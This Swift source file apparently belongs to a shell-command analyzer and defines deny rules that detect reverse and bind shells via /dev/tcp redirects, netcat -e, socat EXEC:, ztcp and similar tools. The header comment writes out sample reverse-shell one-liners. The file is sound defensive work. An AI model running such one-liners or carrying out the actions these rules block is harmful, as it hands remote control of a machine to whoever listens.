/// Reverse and bind shells: `bash -i >& /dev/tcp/h/p 0>&1`, `nc -e /bin/sh`, `socat exec:`,
/// shells reading from or writing to network tools in a pipeline (mkfifo + nc, telnet | sh),
/// socket + exec one-liners in python/perl/php/ruby/node/awk.
enum ReverseShellRules {
    static let devTCP = ShellRule("revshell.dev-tcp", .deny, "connects a shell's input/output to a network socket (/dev/tcp): a reverse shell")
    static let netcatExec = ShellRule("revshell.netcat-exec", .deny, "netcat with -e/-c/--exec hands a shell to the network")
    static let socatExec = ShellRule("revshell.socat-exec", .deny, "socat connects a program (EXEC:/SYSTEM:) to the network")
    static let pipeShell = ShellRule("revshell.pipe", .deny, "a shell reads commands from, or sends its output to, a network connection")
    static let inline = ShellRule("revshell.inline", .deny, "inline code opens a network socket and runs a shell or command over it")
    static let ztcp = ShellRule("revshell.zsh-tcp", .deny, "zsh's TCP module (ztcp) wires a shell to the network")

    static let all = [devTCP, netcatExec, socatExec, pipeShell, inline, ztcp]

    static func tcpRedirects(_ inv: ShInvocation) -> [String] {
        inv.redirects.compactMap { r in
            let t = r.target.text
            return r.body == nil && (t.hasPrefix("/dev/tcp/") || t.hasPrefix("/dev/udp/")) ? t : nil
        }
    }

    /// Runs at every level of a wrapped command (`exec bash -i &>/dev/tcp/…`).
    static func checkDevTCP(_ inv: ShInvocation, _ a: inout ShellAnalysis, _ env: ShEnv) {
        let tcp = tcpRedirects(inv)
        guard !tcp.isEmpty else { return }
        if ShellAnalysis.shells.contains(inv.name) || ShellAnalysis.interpreterLangs[inv.name] != nil || inv.name == "exec" || inv.dynamic {
            a.report(devTCP, inv.subject)
            return
        }
        for t in tcp {
            let parts = t.split(separator: "/")
            let host = parts.count >= 3 ? String(parts[2]) : ""
            switch HostClassifier.classify(host) {
            case .loopback, .privateNetwork, .unspecified: continue
            case .metadata: a.report(MetadataRules.metadata, inv.subject)
            default: a.report(ExfiltrationRules.devTCP, inv.subject)
            }
        }
    }

    static func check(_ inv: ShInvocation, _ a: inout ShellAnalysis, _ env: ShEnv) {
        let args = inv.argTexts
        switch inv.name {
        case "nc":
            let exec = args.contains { t in
                if ["--exec", "--sh-exec", "--lua-exec"].contains(where: { t == $0 || t.hasPrefix($0 + "=") }) { return true }
                guard t.hasPrefix("-") && !t.hasPrefix("--") && t.count > 1 else { return false }
                return t.dropFirst().contains { $0 == "e" || $0 == "c" }
            }
            if exec { a.report(netcatExec, inv.subject) }
        case "socat":
            if args.contains(where: { let l = $0.lowercased(); return l.contains("exec:") || l.contains("system:") }) { a.report(socatExec, inv.subject) }
        case "ztcp":
            a.report(ztcp, inv.subject)
        case "zmodload":
            if args.contains("zsh/net/tcp") || args.contains("zsh/net/socket") { a.report(ztcp, inv.subject) }
        default:
            break
        }
    }
}
